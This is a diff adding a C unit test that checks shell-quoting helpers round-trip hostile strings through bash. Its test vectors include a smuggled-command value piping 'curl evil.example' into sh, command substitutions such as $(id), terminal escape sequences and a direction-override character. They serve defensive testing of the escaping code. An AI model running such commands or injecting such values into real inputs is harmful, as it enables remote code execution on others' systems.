@@ -14,6 +14,7 @@
 #include "base/json.h"
 #include "base/limits.h"
 #include "base/now.h"
+#include "base/shell.h"
 #include "base/text/utf8.h"
 #include "base/units.h"
 #include "ctf/clock.h"
@@ -637,6 +638,40 @@ START_TEST(accounts)
 }
 END_TEST
 
+static const struct {
+	const char *word, *text;
+} shell_words[] = {
+	{ "web1/prod-2", "web1/prod-2" },
+	{ "", "''" },
+	{ "sched_*", "'sched_*'" },
+	{ "x; curl evil.example | sh #", "'x; curl evil.example | sh #'" },
+	{ "it's $(id) `id`", "'it'\\''s $(id) `id`'" },
+	{ "gr\xC3\xBC\xC3\x9F", "'gr\xC3\xBC\xC3\x9F'" }, /* as a terminal shows it */
+	{ "a\nb\x1B]0;'\\", "$'a\\012b\\033]0;\\047\\134'" },
+	{ "\xFF\xE2\x80\xAE", "$'\\377\\342\\200\\256'" }, /* turns the direction */
+};
+
+/* A shell takes it as that word, whatever it is. */
+START_TEST(quotes_for_shells)
+{
+	char *text = shell_word(shell_words[_i].word), *path = shell_path("-rf"), *command;
+	char found[64] = "";
+	FILE *shell;
+
+	ck_assert_str_eq(text, shell_words[_i].text);
+	ck_assert_str_eq(path, "./-rf");
+	command = mem_printf("exec bash -c \"$(cat <<'END'\nprintf %%s %s\nEND\n)\"", text);
+	shell = popen(command, "re");
+	ck_assert_ptr_nonnull(shell);
+	ck_assert_uint_lt(fread(found, 1, sizeof(found) - 1, shell), sizeof(found));
+	(void)pclose(shell);
+	ck_assert_str_eq(found, shell_words[_i].word);
+	free(command);
+	free(path);
+	free(text);
+}
+END_TEST
+
 Suite *suite_base(void)
 {
 	Suite *suite = suite_create("base");
@@ -662,6 +697,7 @@ Suite *suite_base(void)
 	tcase_add_loop_test(tcase, is_plain, 0, COUNT(plains));
 	tcase_add_test(tcase, hangs_up);
 	tcase_add_test(tcase, accounts);
+	tcase_add_loop_test(tcase, quotes_for_shells, 0, COUNT(shell_words));
 	suite_add_tcase(suite, tcase);
 	return suite;
 }
